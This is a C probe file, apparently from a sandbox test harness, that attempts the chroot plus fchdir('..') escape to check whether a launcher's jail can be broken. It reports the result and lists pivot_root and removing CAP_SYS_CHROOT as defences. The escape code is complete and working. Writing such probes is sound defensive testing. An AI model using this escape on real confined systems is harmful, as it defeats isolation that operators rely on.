/*
 * chroot — the chroot + fchdir("..") escape: a process holding CAP_SYS_CHROOT chroots into a
 * subdirectory while keeping a directory fd outside it, walks ".." up from there and chroots to
 * the real root.  Against a launcher that used chroot() instead of pivot_root this reaches the
 * host's root; after pivot_root with the old root detached the walk ends at the jail's root.
 * Defences: pivot_root + MNT_DETACH of the old root; no CAP_SYS_CHROOT for gem.
 * Proof of the probe: run it on the host inside a plain chroot (the harness does), where it
 * escapes.
 */
#include "probe.h"

static int try_escape(void)
{
        const char *dir = probe_tmpdir();
        struct stat before, after;
        int fd, e;

        if (!*dir || stat("/", &before) < 0 || (fd = open("/", O_RDONLY | O_DIRECTORY)) < 0) {
                probe_note("no writable directory to chroot into");
                return P_ERROR;
        }
        if (chroot(dir) < 0) {
                e = errno;
                (void)rmdir(dir);
                return e;
        }
        if (fchdir(fd) < 0) {
                probe_note("fchdir: %s", strerror(errno));
                return P_ERROR;
        }
        (void)rmdir(dir + 1); /* relative to the old root, which is now the cwd */
        for (int i = 0; i < 256; i++)
                (void)chdir("..");
        if (chroot(".") < 0 || stat("/", &after) < 0) {
                probe_note("chroot(.): %s", strerror(errno));
                return P_ERROR;
        }
        if (after.st_dev != before.st_dev || after.st_ino != before.st_ino) {
                probe_note("reached another root (dev %lu ino %lu, was dev %lu ino %lu)",
                           (unsigned long)after.st_dev, (unsigned long)after.st_ino,
                           (unsigned long)before.st_dev, (unsigned long)before.st_ino);
                return P_OK;
        }
        probe_note("the walk ends at the jail's own root");
        return P_SAFE;
}

/* clang-format off */
static const struct probe_attempt attempts[] = {
        { "chroot + fchdir(..) escape", try_escape, true,
          EXPECT(P_SAFE, EPERM), "pivot_root, old root detached", EXPECT(P_SAFE, EPERM),
          "pivot_root, old root detached", EXPECT(P_OK, P_SAFE) },
};
/* clang-format on */

int main(int argc, char **argv)
{
        return probe_main(argc, argv, attempts, ARRAY_LEN(attempts));
}
